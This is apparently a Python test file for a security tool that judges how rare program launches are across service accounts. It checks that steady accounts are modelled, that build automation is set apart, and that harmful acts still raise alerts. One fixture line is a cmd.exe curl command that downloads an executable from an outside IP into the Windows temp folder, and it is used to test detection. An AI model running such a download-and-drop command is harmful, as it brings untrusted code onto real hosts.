"""Service accounts that run something new most days are told apart from the steady ones, and not modelled unasked."""

from prevalence_tables import DAYS, Ran, hosts, life, seen

from longtail.prevalence.judgement import judged
from longtail.settings import Settings

SERVICES = "C:\\Windows\\System32\\services.exe"
BUILDER, BILLING = r"CORP\buildmaster", r"CORP\billing"
FLEET = life(hosts(30))


def of_service(account: str, names: list[str], program: str) -> list[Ran]:
    return [Ran(name, program, DAYS, None, SERVICES, account=account) for name in names]


STEADY = [
    *of_service(BILLING, hosts(12, "app"), r"D:\Billing\BillingSvc.exe"),
    *(Ran(name, r"D:\Billing\export.exe", DAYS, None, r"D:\Billing\BillingSvc.exe", account=BILLING)
      for name in hosts(12, "app")),
]  # fmt: skip
WORDS = ["ab", "mole", "rugs", "vine", "tern", "opus", "kilt", "jazz", "quay", "whim"]
BUILDS = [
    *of_service(BUILDER, hosts(6, "build"), r"D:\Builds\agent.exe"),
    *(Ran(host, rf"D:\Builds\work\{word}\{of}{word}tests.exe", (day,), None, r"D:\Builds\agent.exe", account=BUILDER)
      for host, of in zip(hosts(6, "build"), WORDS, strict=False) for day, word in enumerate(WORDS)),
]  # fmt: skip
NEW = Ran("app03", r"C:\ProgramData\w.exe", (7,), None, r"D:\Billing\BillingSvc.exe", account=BILLING)


def test_builds_neither_alarm_nor_hide_what_a_steady_account_runs() -> None:
    found = judged(seen([*FLEET, *STEADY, *BUILDS, NEW]), Settings())
    classes = {each.account_class: each for each in found.populations}
    assert classes["service"].judged and classes["service"].hosts == 12
    assert not classes["automation"].judged and "told" in classes["automation"].reason
    assert {each.host for each in found.alerts} == {"app03"}


def test_who_asks_for_them_has_them_judged() -> None:
    found = judged(seen([*FLEET, *STEADY, *BUILDS]), Settings(), (BUILDER,))
    assert {each.account_class for each in found.populations if each.judged} == {"automation"}


def test_what_means_harm_is_told_of_them_too() -> None:
    line = "cmd.exe /c curl http://198.51.100.7/j.exe -o C:\\Windows\\Temp\\j.exe"
    act = Ran("build00", r"C:\Windows\System32\cmd.exe", (8,), line, r"D:\Builds\agent.exe", account=BUILDER)
    (alert,) = judged(seen([*FLEET, *STEADY, *BUILDS, act]), Settings()).alerts
    assert alert.account_class == "automation" and "whatever the account" in alert.reason
